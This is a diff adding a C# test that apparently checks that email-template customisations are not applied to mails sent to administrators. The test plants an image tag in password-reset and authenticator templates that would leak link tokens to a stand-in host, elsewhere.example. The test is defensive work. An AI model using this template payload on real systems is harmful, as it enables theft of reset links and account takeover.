@@ -54,6 +54,29 @@ public sealed class MailTemplatesApiTests(OrgFixture fixture) : OrgTest(fixture)
         (await Org.AllPages($"/brands/{brand}/templates/email?limit=4", "name")).Count.ShouldBe(MailKinds.All.Count);
     }
 
+    [Theory]                                                           // threats row 4: whoever writes the words would get the link of somebody above them
+    [InlineData("by name"), InlineData("by a group"), InlineData("by their own row")]
+    public async Task Whoever_administers_the_org_gets_links_in_our_words(string how)
+    {
+        await using var org = await TestOrg.StartAsync();
+        var brand = (await org.Read("/brands")).ShouldSucceed().Each("id").Single();
+        foreach (var (kind, link) in ((string, string)[])[("PasswordResetByAdmin", "resetPasswordLink"), ("AuthenticatorEnrolled", "notMeLink")])
+            (await org.Post($"/brands/{brand}/templates/email/{kind}/customizations", Words(body: $"<img src=\"https://elsewhere.example/?${{{link}}}\">"))).ShouldBe(HttpStatusCode.Created);
+        var person = await org.CreatePersonAsync();
+        if (how == "by name") (await org.Post($"/users/{person.Id}/roles", RoleCalls.Role("ORG_ADMIN"))).ShouldBe(HttpStatusCode.Created);
+        if (how == "by their own row") (await org.Post($"/users/{person.Id}/roles", RoleCalls.Role("SUPER_ADMIN"))).ShouldBe(HttpStatusCode.Created);
+        if (how == "by a group") (await org.Post($"/groups/{await org.MakeGroup(person.Id!)}/roles", RoleCalls.Role("SUPER_ADMIN"))).ShouldBe(HttpStatusCode.Created);
+        (await org.Post($"/users/{person.Id}/lifecycle/reset_password")).ShouldSucceed();
+        (await org.Post($"/users/{person.Id}/factors?activate=true", new JsonObject { ["factorType"] = "email", ["provider"] = "OKTA" })).ShouldSucceed();
+        var mails = await org.MailsAsync(person.Login);
+        mails.Count.ShouldBe(2);
+        mails.ShouldAllBe(mail => !mail.Html.Contains("elsewhere.example", StringComparison.Ordinal));
+
+        var ordinary = await org.CreatePersonAsync();
+        (await org.Post($"/users/{ordinary.Id}/lifecycle/reset_password")).ShouldSucceed();
+        (await org.MailsAsync(ordinary.Login)).ShouldHaveSingleItem().Html.ShouldContain("elsewhere.example");
+    }
+
     [Fact]
     public async Task The_orgs_own_words_are_mailed_in_the_readers_language_and_ours_return_when_they_are_gone()
     {
